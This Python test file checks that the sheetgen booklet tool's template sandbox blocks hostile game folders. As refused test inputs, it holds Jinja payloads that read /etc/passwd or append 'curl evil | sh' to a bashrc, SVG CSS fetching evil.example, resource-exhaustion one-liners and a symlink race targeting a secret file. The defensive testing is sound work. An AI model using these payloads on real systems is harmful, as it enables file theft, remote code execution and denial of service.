"""A game folder is data: its templates see plain data only, and their work is bounded.

The attacker's templates of the game-folder review are the cases here: each one read or
wrote the user's files through a Path in the context, or ran for minutes or took
gigabytes in one line. Every context any template of any game receives is walked too.
"""

from __future__ import annotations

import os
import shutil
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jinja2
import pytest
from hostile import PACKAGE_ROOT, assert_refused, run, snapshot, temporaries
from markupsafe import Markup

from sheetgen import isolated
from sheetgen.booklet import sandbox, templating
from sheetgen.booklet.build import render_html, rules_document
from sheetgen.booklet.pictures import check_picture
from sheetgen.booklet.templating import make_environment, render_string, template_data
from sheetgen.errors import GameDefinitionError, HouseRulesError, SheetgenError
from sheetgen.game.definition import load_game, use_rules_dirs
from sheetgen.game.houserules import resolve
from sheetgen.game.language import Language
from sheetgen.paper import A4, LETTER

BOX = "sections/01-box.md"
GAMES = ("skip-bo", "spite-and-malice", "skip-bo-board")
PLAIN = (str, Markup, int, float, bool, type(None))


@pytest.fixture
def games(tmp_path: Path) -> Path:
    """A folder of games holding ``evil``, a copy of Skip-Bo to be spoilt."""
    root = tmp_path / "games"
    shutil.copytree(PACKAGE_ROOT / "rules" / "skip-bo", root / "evil")
    return root


def booklet_refused(games: Path, template: str, problem: str) -> None:
    """The section template ``template`` stops ``sheetgen rules`` with ``problem`` on its
    line, and nothing is written or changed."""
    box = games / "evil" / BOX
    line = box.read_text(encoding="utf-8").count("\n") + 1
    with box.open("a", encoding="utf-8") as handle:
        handle.write(template + "\n")
    before = snapshot(games.parent)
    done = run(
        ["--rules-dir", str(games), "rules", "--game", "evil", "-o", "out.html"], games.parent
    )
    assert_refused(done, f"{box}, line {line}: template error: {problem}")
    assert snapshot(games.parent) == before
    assert temporaries(games.parent) == []


def refusal(folder: Path, template: str, context: dict[str, Any] | None = None) -> str:
    """What rendering ``template`` as the section file ``s.md`` in ``folder`` is refused with."""
    (folder / "s.md").write_text(template, encoding="utf-8")
    with pytest.raises(GameDefinitionError) as refused:
        templating.render_template(make_environment([folder]), "s.md", context or {})
    return str(refused.value)


# 1: the context holds no Path, so no template reaches the file system.


@pytest.mark.parametrize(
    ("template", "problem"),
    [
        (
            "{{ game.folder.joinpath('/etc/passwd').read_text() }}",
            "'dict object' has no attribute 'folder'",
        ),
        (
            "{{ rules.definition.folder.joinpath('notes').write_text('owned') }}",
            "'dict object' has no attribute 'definition'",
        ),
        (
            "{{ game.preset_path('family').read_text() }}",
            "'dict object' has no attribute 'preset_path'",
        ),
        ("{{ rules.extra.read_text() }}", "'bool object' has no attribute 'read_text'"),
        (
            "{{ official.definition.folder.iterdir() | list }}",
            "'dict object' has no attribute 'definition'",
        ),
        (
            "{{ deck.words.__class__ }}",
            "access to attribute '__class__' of 'dict' object is unsafe.",
        ),
    ],
    ids=["read", "write", "preset-path", "extra", "list", "class"],
)
def test_a_template_cannot_reach_the_file_system(games: Path, template: str, problem: str) -> None:
    booklet_refused(games, template, problem)


def test_the_attackers_append_to_a_victims_file_does_nothing(games: Path, tmp_path: Path) -> None:
    victim = tmp_path / "bashrc"
    victim.write_text("# mine\n", encoding="utf-8")
    template = (
        "{{ game.folder.joinpath('%s').open('a').write('curl evil | sh') }}" % victim  # noqa: UP031
    )
    booklet_refused(games, template, "'dict object' has no attribute 'folder'")
    assert victim.read_text(encoding="utf-8") == "# mine\n"


def _walk(value: Any, where: str) -> Iterator[str]:
    """Where ``value`` holds anything but plain data."""
    if isinstance(value, dict):
        for key, item in value.items():
            if type(key) not in (str, int):
                yield f"{where} key {key!r}"
            yield from _walk(item, f"{where}[{key!r}]")
    elif isinstance(value, list):
        for number, item in enumerate(value):
            yield from _walk(item, f"{where}[{number}]")
    elif type(value) not in PLAIN:
        yield f"{where}: {type(value).__name__}"


@pytest.fixture
def contexts(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
    """Every set of values handed to a template (jinja2 makes each render's context in
    Template.new_context: files, sentences and ``when`` expressions alike)."""
    seen: list[dict[str, Any]] = []
    real = jinja2.Template.new_context

    def recording(self: jinja2.Template, vars: Any = None, *args: Any, **kwargs: Any) -> Any:
        # An include hands on everything its parent sees, the Environment's own globals
        # (range, the gettext functions) among them: those are sheetgen's, not data.
        own = self.environment.globals
        seen.append(
            {key: value for key, value in (vars or {}).items() if own.get(key) is not value}
        )
        return real(self, vars, *args, **kwargs)

    monkeypatch.setattr(jinja2.Template, "new_context", recording)
    return seen


def _cases() -> list[tuple[str, str | None, dict[str, Any], str]]:
    cases: list[tuple[str, str | None, dict[str, Any], str]] = []
    for game_id in (*GAMES, "pocket-bo"):
        folder = PACKAGE_ROOT / ("tests/games" if game_id == "pocket-bo" else "rules") / game_id
        presets = sorted(path.stem for path in (folder / "presets").glob("*.toml"))
        for preset in (None, *presets):
            for lang in ("en", "de") if (folder / "de").is_dir() else ("en",):
                cases.append((game_id, preset, {}, lang))
    heavy = {"players": 6, "partnerships": True, "stock": "short", "deck": "standard"}
    cases.append(("skip-bo", None, heavy, "en"))
    return cases


@pytest.mark.parametrize(("game", "preset", "options", "lang"), _cases())
def test_every_context_of_every_game_is_plain_data(
    contexts: list[dict[str, Any]],
    tmp_path: Path,
    game: str,
    preset: str | None,
    options: dict[str, Any],
    lang: str,
) -> None:
    use_rules_dirs([PACKAGE_ROOT / "tests" / "games"])
    try:
        rules = resolve(game=game, preset=preset, options=options)
        for screen in (False, True):
            render_html(
                rules,
                paper=A4 if lang == "de" else LETTER,
                extra_markdown="# Our table\n\nWe play to the end.\n",
                screen=screen,
                lang=Language(lang),
            )
    finally:
        use_rules_dirs([])
    assert len(contexts) > 10  # sections, sentences, pictures, examples and the page
    problems = [problem for context in contexts for problem in _walk(context, "context")]
    assert problems == []


def test_template_data_refuses_what_is_not_plain() -> None:
    with pytest.raises(TypeError, match=r"context\['game'\]\['folder'\] is a PosixPath"):
        template_data({"game": {"folder": Path("/etc")}})
    with pytest.raises(TypeError, match=r"context\['game'\]\['folder'\] is a PosixPath"):
        template_data({"game": load_game("skip-bo")})
    with pytest.raises(TypeError, match=r"context\['f'\] is a builtin_function_or_method"):
        template_data({"f": open})
    assert template_data({"n": (1, 2), "s": frozenset({"b", "a"})}) == {
        "n": [1, 2],
        "s": ["a", "b"],
    }


# 5: the work of a template is bounded: time, memory and what it writes.

BOUNDED = [
    (
        "{% for a in 'x' * 900000 %}{% for b in 'x' * 900000 %}{% endfor %}{% endfor %}",
        "the templates ask for more than 20,000,000 steps of work in all",
    ),
    ("{{ lipsum(100000, false, 100000, 100000) }}", "'lipsum' is undefined"),
    (
        "{% set ns = namespace(s='x' * 1000) %}{% for i in range(40) %}"
        "{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
        "a text longer than 1,000,000 characters",
    ),
    ("{{ '%0900000000d' % 1 }}", "a %-format wider than 1,000,000 characters"),
    ("{{ '%*d' % (900000000, 1) }}", "a %-format may not take its width from its values"),
    ("{{ _('%(n)0900000000d', n=1) }}", "a %-format wider than 1,000,000 characters"),
    ("{{ '{:>999999999}'.format(1) }}", "access to attribute 'format' of 'str' object is unsafe."),
    ("{{ 'x' | center(99999) }}", "No filter named 'center'."),
    ("{{ 'x' | indent(99999) }}", "No filter named 'indent'."),
    ("{{ ('x' * 100000).replace('x', 'y' * 100000) }}", "a text longer than 1,000,000 characters"),
    (
        "{{ ('x' * 100000) | replace('x', 'y' * 100000) }}",
        "a text longer than 1,000,000 characters",
    ),
    (
        "{% set s = 'x' * 100000 %}{{ ','.join([s, s, s, s, s, s, s, s, s, s, s]) }}",
        "a list longer than 1,000,000 characters",
    ),
    (
        "{% set s = 'x' * 100000 %}{{ [s, s, s, s, s, s, s, s, s, s, s] | join(',') }}",
        "a list longer than 1,000,000 characters",
    ),
    (
        "{% set ns = namespace(l=[]) %}{% for i in range(100000) %}"
        "{% set ns.l = ns.l + ['x' * 100000] %}{% endfor %}",
        "a text longer than 1,000,000 characters",
    ),
    (
        "{% macro m(n) %}{{ 'x' * 100000 }}{{ m(n) }}{% endmacro %}{{ m(1) }}",
        "the template asks for more work or memory than a booklet can need",
    ),
]


@pytest.mark.parametrize(("template", "problem"), BOUNDED)
def test_a_templates_work_is_bounded(tmp_path: Path, template: str, problem: str) -> None:
    assert refusal(tmp_path, template) == f"{tmp_path / 's.md'}, line 1: template error: {problem}"


@pytest.mark.parametrize(("template", "problem"), BOUNDED[:2])
def test_a_game_folder_that_runs_away_is_one_message(
    games: Path, template: str, problem: str
) -> None:
    booklet_refused(games, template, problem)


def test_what_one_render_writes_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "MAX_OUTPUT", 5000)
    (tmp_path / "s.md").write_text("{% for i in range(100) %}{{ 'x' * 100 }}{% endfor %}")
    env = make_environment([tmp_path])
    with pytest.raises(GameDefinitionError, match="a template writes more than 5,000 characters"):
        templating.render_template(env, "s.md", {})


def test_a_render_has_a_time_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "MAX_SECONDS", 0.0)
    env = make_environment([tmp_path])
    with pytest.raises(GameDefinitionError, match="the templates take longer than 0 seconds"):
        render_string(env, "{% for i in range(10) %}{{ i }}{% endfor %}", {})


def test_the_bounds_leave_a_real_booklet_alone(tmp_path: Path) -> None:
    env = make_environment([tmp_path])
    text = render_string(
        env,
        "{% for w in words | sort %}{{ loop.index }}. {{ w | upper ~ '!' }} {% endfor %}"
        "{{ '%d%%' % 100 }} {{ 'a-b'.replace('-', ' ') }} {{ ', '.join(words) }}",
        {"words": ["b", "a"]},
    )
    assert text == "1. A! 2. B! 100% a b b, a"


# 4: a picture's CSS is read as CSS, and the HTML booklet fetches nothing.

SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


@pytest.mark.parametrize(
    ("inside", "named"),
    [
        ("<style><g/>@import url(https://evil.example/x.css);</style>", "a <g> inside a <style>"),
        ("<style>.a{fill:red}<tspan/>@import 'x';</style>", "a <tspan> inside a <style>"),
        ("<style>.a { fill: image-set('x.png' 1x) }</style>", "the CSS function image-set()"),
        ('<rect style="fill: url(&quot;https://evil.example/&quot;)"/>', "that fetches or escapes"),
        ("<style>.a { fill: url('https://evil.example/') }</style>", "that fetches or escapes"),
    ],
)
def test_a_pictures_css_is_read_as_css(inside: str, named: str) -> None:
    with pytest.raises(GameDefinitionError) as refused:
        check_picture(f"{SVG_OPEN}{inside}</svg>", "p.svg.j2")
    assert named in str(refused.value)


def test_a_picture_may_name_its_own_parts() -> None:
    drawing = (
        f"{SVG_OPEN}<style>.a {{ fill: url('#p'); stroke: rgb(0, 0, 0) }}</style>"
        '<rect class="a" style="fill: url(#p)"/></svg>'
    )
    assert check_picture(drawing, "p.svg.j2") is drawing


def test_the_html_booklet_forbids_every_fetch(tmp_path: Path) -> None:
    html = render_html(resolve(game="skip-bo"), paper=LETTER, screen=True)
    head = html[: html.index("</head>")]
    policy = "default-src 'none'; style-src 'unsafe-inline'; font-src data:; img-src data:"
    assert f'<meta http-equiv="Content-Security-Policy" content="{policy};' in head
    assert head.index("Content-Security-Policy") < head.index("<style>")


# 3: the table's own rules are opened once, through no link, and read from what was opened.


@pytest.fixture
def table(tmp_path: Path) -> Path:
    folder = tmp_path / "table"
    folder.mkdir()
    (folder / "ours.md").write_text("# Ours\n\nWe play to the end.\n", encoding="utf-8")
    (folder / "house.toml").write_text('players = 4\nextra = "ours.md"\n', encoding="utf-8")
    (tmp_path / "secret.md").write_text("# SECRET hunter2\n", encoding="utf-8")
    return folder


def test_own_rules_are_read_when_the_rules_are_resolved(table: Path) -> None:
    rules = resolve(house_rules=table / "house.toml")
    assert rules.extra_text == "# Ours\n\nWe play to the end.\n"


@pytest.mark.parametrize(
    ("make", "problem"),
    [
        (
            lambda folder: (folder / "ours.md").symlink_to(folder.parent / "secret.md"),
            "ours.md is outside the folder of the house-rules file",
        ),
        (
            lambda folder: (folder / "ours.md").symlink_to("inside.md"),
            "ours.md is a link; name the table's Markdown file itself",
        ),
    ],
    ids=["outside", "inside"],
)
def test_own_rules_are_never_read_through_a_link(table: Path, make: Any, problem: str) -> None:
    (table / "ours.md").rename(table / "inside.md")
    make(table)
    with pytest.raises(HouseRulesError) as refused:
        resolve(house_rules=table / "house.toml")
    assert problem in str(refused.value)
    assert str(refused.value).startswith(f"{table / 'house.toml'}, extra: ")


def test_own_rules_swapped_for_a_link_never_print_the_linked_file(table: Path) -> None:
    """The attacker's race: ``ours.md`` flips between a plain file and a link to a private
    file while the booklet is made (it printed the private file in 14 to 17 of 40 to 60
    runs when the file was checked, then opened again by name)."""
    plain, link = table / "plain.md", table / "link.md"
    plain.write_text("# Ours\n", encoding="utf-8")
    link.symlink_to(table.parent / "secret.md")
    stop = threading.Event()

    def flip() -> None:
        while not stop.is_set():
            for source in (plain, link):
                os.link(source, table / "next.md", follow_symlinks=False)
                os.replace(table / "next.md", table / "ours.md")

    flipper = threading.Thread(target=flip)
    flipper.start()
    read: list[str] = []
    try:
        for _ in range(300):
            try:
                read.append(resolve(house_rules=table / "house.toml").extra_text or "")
            except HouseRulesError:
                read.append("refused")
    finally:
        stop.set()
        flipper.join()
    assert not any("SECRET" in text for text in read)
    assert "# Ours\n" in read  # the race was run: the plain file was read at times


# The outside attacker's second round: each of these took gigabytes or minutes in one line.

SECOND_ROUND = [
    (
        '{% set s = "a" * 1000000 %}{% set l = [s] * 2000 %}{{ l }}',
        "a list longer than 1,000,000 characters",
    ),
    (
        '{% set s = "a" * 1000000 %}{% set l = [s, s, s, s] %}{{ l }}',
        "a list longer than 1,000,000 characters",
    ),
    (
        '{% set s = "a" * 1000000 %}{{ [s, s] | string | length }}',
        "a list longer than 1,000,000 characters",
    ),
    ('{% set s = "a" * 600000 %}{{ [s] ~ [s] }}', "a text longer than 1,000,000 characters"),
    (
        '{% set t = ("%(a)s" * 2000) % {"a": "a" * 1000000} %}x',
        "a list longer than 1,000,000 characters",
    ),
    (
        '{% set t = _("%(a)s" * 2000, a="a" * 1000000) %}x',
        "a %-format longer than 1,000,000 characters",
    ),
    (
        "{% set l = [0] * 1000 %}{% set t = ([l] * 300) | sum(start=[]) %}x",
        "sum adds numbers only",
    ),
    (
        "{% set ns = namespace(v=99999) %}{% for i in range(24) %}{% set ns.v = ns.v * ns.v %}{% endfor %}x",
        "a number with more than 1,000 digits",
    ),
]


@pytest.mark.parametrize(("template", "problem"), SECOND_ROUND)
def test_text_made_from_lists_and_numbers_is_bounded(
    tmp_path: Path, template: str, problem: str
) -> None:
    assert refusal(tmp_path, template) == f"{tmp_path / 's.md'}, line 1: template error: {problem}"


@pytest.mark.parametrize(
    "name", ["booklet.html.j2", "booklet.css", "cards.svg.j2", "colophon.html.j2"]
)
def test_a_game_folder_cannot_replace_sheetgens_own_templates(games: Path, name: str) -> None:
    (games / "evil" / name).write_text(
        '<script>fetch("http://127.0.0.1:9/")</script>{{ 1 }}', encoding="utf-8"
    )
    done = run(
        ["--rules-dir", str(games), "rules", "--game", "evil", "-o", "out.html"], games.parent
    )
    assert done.code == 0, done.err
    html = (games.parent / "out.html").read_text(encoding="utf-8")
    assert "<script" not in html and "127.0.0.1:9" not in html
    assert 'http-equiv="Content-Security-Policy"' in html


def test_a_huge_section_file_is_refused_before_it_is_read(games: Path) -> None:
    box = games / "evil" / BOX
    with box.open("r+b") as handle:
        handle.truncate(3 * 1024**3)  # sparse: no disk, but 3 GB to read
    done = run(
        ["--rules-dir", str(games), "rules", "--game", "evil", "-o", "out.html"], games.parent
    )
    assert_refused(
        done,
        f"{box}: template error: a template file holds at most 1,000,000 bytes of text; it has"
        " 3,221,225,472 bytes",
    )


def test_a_game_may_not_have_too_much_text(games: Path) -> None:
    toml = games / "evil" / "game.toml"
    paragraph = "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod. " * 3
    extra = ""
    for number in range(60):
        (games / "evil" / "sections" / f"s{number:03}.md").write_text(
            f"# Part {number}\n\n" + (paragraph + "\n\n") * 100, encoding="utf-8"
        )
        extra += f'\n[[sections]]\nfile = "s{number:03}.md"\n'
    toml.write_text(toml.read_text(encoding="utf-8") + extra, encoding="utf-8")
    done = run(
        ["--rules-dir", str(games), "rules", "--game", "evil", "-o", "out.html"], games.parent
    )
    assert done.code == 1 and "Traceback" not in done.err
    assert "a booklet's sections hold at most 100,000 characters in all" in done.err


# The outside attacker's third round.


def test_a_sections_folder_that_links_elsewhere_is_no_part_of_the_game(
    games: Path, tmp_path: Path
) -> None:
    """``sections`` linked to the victim's home let ``{% include ".bashrc" %}`` print it."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("TOKEN=hunter2\n", encoding="utf-8")
    sections = games / "evil" / "sections"
    shutil.copytree(sections, home / "copied")
    shutil.rmtree(sections)
    (home / "copied" / "01-box.md").write_text(
        "# Box\n\n{% include '.bashrc' %}\n", encoding="utf-8"
    )
    shutil.copy(home / "copied" / "01-box.md", home / "01-box.md")
    for path in (home / "copied").iterdir():
        if path.name != "01-box.md":
            shutil.copy(path, home / path.name)
    sections.symlink_to(home)
    done = run(
        ["--rules-dir", str(games), "rules", "--game", "evil", "-o", "out.html"], games.parent
    )
    assert done.code == 1 and "Traceback" not in done.err
    assert "lies outside the game's folder" in done.err
    assert not (games.parent / "out.html").exists()


NESTED = (
    "{% set a = [0] * 100000 %}{% set b = [0] * 100000 %}"
    "{% set c = [a, a, a, a, a, a, a, a, a, a] %}{% set d = [b, b, b, b, b, b, b, b, b, b] %}"
    "{% set e = [c, c, c, c, c, c, c, c, c, c] %}{% set f = [d, d, d, d, d, d, d, d, d, d] %}"
    "{{ e == f }}"
)


@pytest.mark.parametrize(
    ("template", "problem"),
    [
        (NESTED, "a list longer than 1,000,000 characters"),
        (
            "{% set a = [0] * 100000 %}{% set c = dict(x=a, y=a, z=a, w=a, v=a) %}x",
            "a list longer than 1,000,000 characters",
        ),
        (
            "{% set s = 'x' * 300000 %}{{ [s, s, s, s] | select | join }}",
            "a list longer than 1,000,000 characters",
        ),
        (
            "{% set s = 'x' * 300000 %}{{ (s, s, s, s) | join }}",
            "a list longer than 1,000,000 characters",
        ),
    ],
    ids=["nested-compare", "dict-call", "join-generator", "tuple"],
)
def test_lists_written_in_a_template_are_weighed(
    tmp_path: Path, template: str, problem: str
) -> None:
    assert refusal(tmp_path, template) == f"{tmp_path / 's.md'}, line 1: template error: {problem}"


@pytest.mark.parametrize("name", ["game.toml", "examples.toml", "presets/official.toml"])
def test_a_huge_toml_file_of_a_game_is_refused_before_it_is_read(games: Path, name: str) -> None:
    path = games / "evil" / name
    with path.open("r+b") as handle:
        handle.truncate(1500 * 1024**2)  # sparse
    done = run(
        ["--rules-dir", str(games), "rules", "--game", "evil", "-o", "out.html"], games.parent
    )
    assert done.code == 1 and "Traceback" not in done.err
    assert "larger than 1,000,000 bytes, the most such a file holds" in done.err
    assert str(path) in done.err


@pytest.mark.parametrize("attribute", ["fill", "mask", "clip-path", "filter"])
def test_an_unclosed_url_in_a_picture_attribute_is_refused(attribute: str) -> None:
    with pytest.raises(GameDefinitionError, match="that fetches or escapes"):
        check_picture(f'{SVG_OPEN}<rect {attribute}="url(http://127.0.0.1:18081/x"/></svg>', "p")


@pytest.mark.parametrize(
    ("template", "problem"),
    [
        ("{{ big }}", "a text longer than 1,000,000 characters"),
        ("{{ big | string }}", "a text longer than 1,000,000 characters"),
        ("{{ big | join(',') }}", "a text longer than 1,000,000 characters"),
        ("{{ ','.join(big) }}", "a text longer than 1,000,000 characters"),
        ("{{ big[0] ~ big[1] ~ big[2] ~ big[3] }}", "a text longer than 1,000,000 characters"),
        ("{{ ('%(a)s' * 4) % one }}", "a %-format longer than 1,000,000 characters"),
        ("{{ _('%(a)s%(a)s%(a)s%(a)s', a=one.a) }}", "a %-format longer than 1,000,000 characters"),
    ],
)
def test_text_from_the_contexts_own_lists_is_bounded(
    tmp_path: Path, template: str, problem: str
) -> None:
    """Lists a template writes are weighed as they are made; these checks hold for lists
    it is handed, the later line of defence."""
    context = {"big": ["a" * 300_000] * 4, "one": {"a": "a" * 300_000}}
    assert (
        refusal(tmp_path, template, context)
        == f"{tmp_path / 's.md'}, line 1: template error: {problem}"
    )


# The outside attacker's fourth round.


def test_a_game_folder_swapped_for_a_link_during_the_run_lends_it_nothing(
    games: Path, tmp_path: Path
) -> None:
    """The game folder swapped for a link between the start of the booklet and a template's
    include: the bound is the folder as it was loaded, not as it resolves now."""
    from sheetgen.booklet.html import booklet_environment

    (tmp_path / "secret.txt").write_text("secret-token-ABC123\n", encoding="utf-8")
    use_rules_dirs([games])
    try:
        env = booklet_environment(load_game("evil"))
    finally:
        use_rules_dirs([])
    (games / "evil").rename(games / "evil.real")
    (games / "evil").symlink_to(tmp_path)
    with pytest.raises(GameDefinitionError, match="lies outside the game's folder"):
        render_string(env, "{% include 'secret.txt' %}", {})


@pytest.mark.parametrize(
    ("template", "problem"),
    [
        (
            "{% set L = ('x' * 100000) | list %}"
            "{% set M = range(100) | map(attribute='q', default=L) | list %}x",
            "a list longer than 1,000,000 characters",
        ),
        ("{% set s = ('ΐ' * 400000).upper() %}x", "a text longer than 1,000,000 characters"),
    ],
    ids=["map-default", "upper"],
)
def test_what_filters_and_methods_make_is_weighed(
    tmp_path: Path, template: str, problem: str
) -> None:
    assert refusal(tmp_path, template) == f"{tmp_path / 's.md'}, line 1: template error: {problem}"


def _spin() -> None:
    while True:
        pass


def _hoard() -> bytes:
    return bytes(3 * 1024**3)


def _sleep() -> None:
    time.sleep(30)


def _refuse() -> None:
    raise GameDefinitionError("template error: no", file="g/game.toml")


@pytest.mark.parametrize(
    ("function", "problem"),
    [
        (_spin, "the test takes more than 1 seconds of processor time"),
        (_hoard, "the test needs more than 1,024 MB of memory"),
        (_sleep, "the test takes longer than 0.5 seconds"),
        (_refuse, "g/game.toml: template error: no"),
    ],
    ids=["cpu", "memory", "wall", "error"],
)
def test_an_outside_game_runs_under_the_kernels_limits(
    monkeypatch: pytest.MonkeyPatch, function: Any, problem: str
) -> None:
    monkeypatch.setattr(isolated, "CPU_SECONDS", 1)
    monkeypatch.setattr(isolated, "WALL_SECONDS", 0.5 if function is _sleep else 30.0)
    with pytest.raises(SheetgenError) as refused:
        isolated.run_limited(function, "the test")
    assert str(refused.value) == problem
    assert isolated.run_limited(lambda: "made", "the test") == "made"


def test_a_comparison_that_would_take_hours_is_stopped(
    games: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The fourth round's one-line denial of service, under the kernel's limit: one
    comparison of crafted lists is one call into C that no clock in the process stops."""
    monkeypatch.setattr(isolated, "CPU_SECONDS", 2)
    monkeypatch.setattr(sandbox, "MAX_TEXT", 10**12)  # as if the sandbox missed it
    (games / "evil" / BOX).write_text(
        "{% set a = [0] * 100000 %}{% set b = [0] * 100000 %}"
        "{% set c = [a] * 100000 %}{% set d = [b] * 100000 %}{{ c == d }}\n",
        encoding="utf-8",
    )
    use_rules_dirs([games])
    try:
        rules = resolve(game="evil")
        with pytest.raises(isolated.LimitError, match="takes more than 2 seconds"):
            rules_document(rules, paper=LETTER, fmt="html")
    finally:
        use_rules_dirs([])


def test_a_toml_file_read_through_a_link_swapped_in_is_refused(tmp_path: Path) -> None:
    """The fourth round's lesser race: a game's TOML checked by name, then opened again
    by name after a link was swapped in; what was opened must lie in the game's folder."""
    from sheetgen.tomlfile import read_toml_text

    game = tmp_path / "game"
    game.mkdir()
    (tmp_path / "outside.toml").write_text('secret = "hunter2"\n', encoding="utf-8")
    (game / "game.toml").symlink_to(tmp_path / "outside.toml")
    with pytest.raises(ValueError, match="lies outside the game's folder"):
        read_toml_text(game / "game.toml", within=game.resolve())
    (game / "own.toml").write_text('name = "ours"\n', encoding="utf-8")
    assert read_toml_text(game / "own.toml", within=game.resolve()) == 'name = "ours"\n'


def test_a_language_folders_game_toml_linked_outside_is_refused(
    games: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.toml"
    outside.write_text((games / "evil" / "de" / "game.toml").read_text(encoding="utf-8"))
    (games / "evil" / "de" / "game.toml").unlink()
    (games / "evil" / "de" / "game.toml").symlink_to(outside)
    done = run(
        ["--rules-dir", str(games), "rules", "--game", "evil", "--lang", "de", "-o", "out.html"],
        games.parent,
    )
    assert done.code == 1 and "Traceback" not in done.err
    assert "outside the game's folder" in done.err
    assert not (games.parent / "out.html").exists()


# The outside attacker's fifth round.


@pytest.mark.parametrize(
    "line",
    ["x" + ".a" * 100_000 + " = 1", "[t" + ".a" * 100_000 + "]"],
    ids=["dotted-key", "dotted-table"],
)
def test_a_dotted_key_100000_parts_deep_is_refused_at_once(games: Path, line: str) -> None:
    """tomllib reads a key of n dotted parts in time and memory that grow with n squared:
    a 200 KB game.toml took 4 GB and ended in a MemoryError traceback."""
    toml = games / "evil" / "game.toml"
    toml.write_text(toml.read_text(encoding="utf-8") + "\n" + line + "\n", encoding="utf-8")
    for args in (["rules", "--game", "evil", "-o", "out.html"], ["games"]):
        done = run(["--rules-dir", str(games), *args], games.parent, timeout=30)
        assert "Traceback" not in done.err
        assert f"{toml}: cannot read the game definition (nested more than 32 levels deep)" in (
            done.err
        )


def test_a_child_is_not_left_running_when_the_parent_is_interrupted(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    children: list[int] = []
    real_fork = os.fork

    def fork() -> int:
        pid = real_fork()
        if pid:
            children.append(pid)
        return pid

    def interrupted(reading: int, pid: int) -> bytes:
        raise KeyboardInterrupt

    monkeypatch.setattr(isolated.os, "fork", fork)
    monkeypatch.setattr(isolated, "_read_all", interrupted)
    with pytest.raises(KeyboardInterrupt):
        isolated.run_limited(_sleep, "the test")
    with pytest.raises(ChildProcessError):
        os.waitpid(children[0], os.WNOHANG)  # reaped: killed, not left to run
